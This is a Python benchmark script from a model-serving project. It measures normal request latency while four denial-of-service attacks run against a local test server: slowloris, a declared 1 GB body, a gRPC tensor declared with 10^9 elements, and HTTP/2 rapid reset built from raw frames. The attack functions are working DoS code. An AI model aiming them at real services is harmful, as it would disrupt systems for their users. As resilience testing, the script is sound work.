"""Normal requests' latency while the server is under attack (issue 19, point 4).

    python3 bench/attacks.py             # prints the table, writes bench/results/attacks.md

One `modelyard serve` (a tiny SavedModel, `--client_timeout_seconds 5`). A client sends REST
predicts one after the other for a few seconds and records each latency: first alone (the
baseline), then while each attack runs from other threads without pause:
- slowloris: 64 connections each sending one byte of a request every half second;
- a declared 1 GB body: requests announcing `Content-Length: 1000000000`, again and again;
- a declared 10^9-element tensor: gRPC predicts whose TensorProto has shape [10^9] and one value;
- HTTP/2 rapid reset: connections opening and cancelling 3,000 streams each, again and again.
The table gives the normal requests' p50 / p99 during each attack against the baseline, and
what the attacker got. Baseline and attacks take turns over the rounds.
"""
from __future__ import annotations

import argparse
import json
import os
import socket
import statistics
import struct
import tempfile
import threading
import time
from pathlib import Path

from harness import modelyard_serve, machine, percentile, take_turns, write_results

os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "2")
ROOT = Path(__file__).resolve().parent
PROBE_S = 6.0


def _save_model(path: Path) -> None:
    import tensorflow as tf

    class Affine(tf.Module):
        @tf.function(input_signature=[tf.TensorSpec([None, 1], tf.float32, name="x")])
        def serve(self, x):
            return {"y": 2.0 * x + 1.0}

    module = Affine()
    tf.saved_model.save(module, str(path / "1"), signatures={"serving_default": module.serve})


def _probe(rest: int, seconds: float) -> list[float]:
    import requests

    latencies, errors = [], 0
    with requests.Session() as session:
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            start = time.perf_counter()
            try:
                r = session.post(f"http://127.0.0.1:{rest}/v1/models/m:predict", json={"instances": [[1.0]]}, timeout=10)
                ok = r.status_code == 200
            except Exception:
                ok = False
            latencies.append((time.perf_counter() - start) * 1000 if ok else float("inf"))
            errors += not ok
    return latencies


def _slowloris(rest: int, stop: threading.Event, seen: dict) -> None:
    request = b"POST /v1/models/m:predict HTTP/1.1\r\nHost: x\r\nContent-Length: 20\r\n\r\n{\"instances\": [1.0]}"
    socks = []
    for _ in range(64):
        try:
            socks.append([socket.create_connection(("127.0.0.1", rest), timeout=5), 0])
        except OSError:
            seen["refused"] = seen.get("refused", 0) + 1
    while not stop.is_set():
        for entry in socks:
            sock, sent = entry
            if sock is None or sent >= len(request):
                continue
            try:
                sock.sendall(request[sent:sent + 1])
                entry[1] += 1
            except OSError:
                seen["cut"] = seen.get("cut", 0) + 1
                sock.close()
                entry[0] = None
        stop.wait(0.5)
    for sock, _ in socks:
        if sock is not None:
            sock.close()


def _gigabyte_body(rest: int, stop: threading.Event, seen: dict) -> None:
    head = b"POST /v1/models/m:predict HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000000\r\n\r\n"
    while not stop.is_set():
        try:
            with socket.create_connection(("127.0.0.1", rest), timeout=5) as sock:
                sock.sendall(head + b"[" * 1000)
                answer = sock.recv(64)
                key = answer.split(b"\r\n")[0].decode(errors="replace") or "closed"
                seen[key] = seen.get(key, 0) + 1
        except OSError as exc:
            seen[type(exc).__name__] = seen.get(type(exc).__name__, 0) + 1


def _huge_shape(grpc_port: int, stop: threading.Event, seen: dict) -> None:
    import grpc
    from tensorflow.core.framework import tensor_pb2, tensor_shape_pb2, types_pb2
    from tensorflow_serving.apis import predict_pb2, prediction_service_pb2_grpc

    request = predict_pb2.PredictRequest()
    request.model_spec.name = "m"
    request.inputs["x"].CopyFrom(tensor_pb2.TensorProto(
        dtype=types_pb2.DT_FLOAT, float_val=[1.0],
        tensor_shape=tensor_shape_pb2.TensorShapeProto(dim=[tensor_shape_pb2.TensorShapeProto.Dim(size=10**9),
                                                            tensor_shape_pb2.TensorShapeProto.Dim(size=1)])))
    with grpc.insecure_channel(f"127.0.0.1:{grpc_port}") as channel:
        stub = prediction_service_pb2_grpc.PredictionServiceStub(channel)
        while not stop.is_set():
            try:
                stub.Predict(request, timeout=10)
                seen["answered"] = seen.get("answered", 0) + 1
            except grpc.RpcError as exc:
                seen[exc.code().name] = seen.get(exc.code().name, 0) + 1


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _rapid_reset(grpc_port: int, stop: threading.Event, seen: dict) -> None:
    import hpack

    # Built once: each connection starts a fresh HPACK context, so the same bytes are valid on
    # every one, and the attacker spends its CPU on sending, not on encoding (it shares the cores).
    encoder = hpack.Encoder()
    frames = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", _frame(4, 0, 0)]
    for i in range(3000):
        sid = 2 * i + 1
        headers = encoder.encode([(":method", "POST"), (":scheme", "http"), (":authority", "x"),
                                  (":path", "/tensorflow.serving.PredictionService/Predict"),
                                  ("content-type", "application/grpc"), ("te", "trailers")])
        frames += [_frame(1, 4, sid, headers), _frame(3, 0, sid, struct.pack(">I", 8))]
    payload = b"".join(frames)
    while not stop.is_set():
        try:
            with socket.create_connection(("127.0.0.1", grpc_port), timeout=5) as sock:
                sock.sendall(payload)
                got = b""
                while chunk := sock.recv(65536):
                    got += chunk
                # GOAWAY (type 7) with ENHANCE_YOUR_CALM (11)?
                key = "GOAWAY ENHANCE_YOUR_CALM" if b"\x07\x00\x00\x00\x00\x00" in got and \
                    struct.pack(">I", 11) in got else "closed"
                seen[key] = seen.get(key, 0) + 1
        except OSError as exc:
            seen[type(exc).__name__] = seen.get(type(exc).__name__, 0) + 1


ATTACKS = {"slowloris (64 connections, 1 byte / 0.5 s)": ("rest", _slowloris),
           "declared 1 GB body": ("rest", _gigabyte_body),
           "declared 10^9-element tensor (gRPC)": ("grpc", _huge_shape),
           "HTTP/2 rapid reset (3,000 streams per connection)": ("grpc", _rapid_reset)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--rounds", type=int, default=2)
    parser.add_argument("--out", default=str(ROOT / "results"))
    args = parser.parse_args()
    started_on = machine()
    with tempfile.TemporaryDirectory(prefix="modelyard-attacks-") as tmp:
        base = Path(tmp) / "m"
        _save_model(base)
        with modelyard_serve("modelyard serve", base, Path(tmp) / "server.log", "--client_timeout_seconds", "5") as server:
            rest, grpc_port = server.rest_port, server.grpc_port
            _probe(rest, 1.0)  # warm up

            def one_run(name: str, _round: int) -> dict:
                seen: dict = {}
                stop = threading.Event()
                threads = []
                if name in ATTACKS:
                    port_kind, attack = ATTACKS[name]
                    port = rest if port_kind == "rest" else grpc_port
                    threads = [threading.Thread(target=attack, args=(port, stop, seen), daemon=True)]
                    for thread in threads:
                        thread.start()
                    time.sleep(0.5)  # the attack is under way
                latencies = _probe(rest, PROBE_S)
                stop.set()
                for thread in threads:
                    thread.join(15)
                failed = sum(1 for v in latencies if v == float("inf"))
                ok = [v for v in latencies if v != float("inf")]
                return {"p50_ms": percentile(ok, 50), "p99_ms": percentile(ok, 99), "requests": len(latencies),
                        "failed": failed, "attacker_saw": seen}

            runs = take_turns(["no attack (baseline)", *ATTACKS], args.rounds, one_run)
    base50 = statistics.median(r["p50_ms"] for r in runs["no attack (baseline)"])
    base99 = statistics.median(r["p99_ms"] for r in runs["no attack (baseline)"])
    lines = [
        "# Normal requests while the server is under attack",
        "",
        f"`python3 bench/attacks.py --rounds {args.rounds}`, {started_on} (server, attacker and client share "
        f"the cores). REST predicts one after the other for {PROBE_S:.0f} s "
        "per run; medians over the rounds, the runs taking turns.",
        "",
        "| during | normal p50 ms | p99 ms | p50 vs baseline | failed normal requests | what the attacker got |",
        "| --- | ---: | ---: | ---: | ---: | --- |",
    ]
    for name, rs in runs.items():
        p50 = statistics.median(r["p50_ms"] for r in rs)
        p99 = statistics.median(r["p99_ms"] for r in rs)
        seen: dict = {}
        for r in rs:
            for key, n in r["attacker_saw"].items():
                seen[key] = seen.get(key, 0) + n
        shown = ", ".join(f"{k} x{n}" for k, n in sorted(seen.items())) or "-"
        lines.append(f"| {name} | {p50:.2f} | {p99:.2f} | {p50 / base50:.2f}x | {sum(r['failed'] for r in rs)} | {shown} |")
    lines += ["", f"Baseline p50 {base50:.2f} ms, p99 {base99:.2f} ms.", "", "Per run: " + json.dumps(runs)]
    write_results("attacks", "\n".join(lines), args.out)


if __name__ == "__main__":
    main()
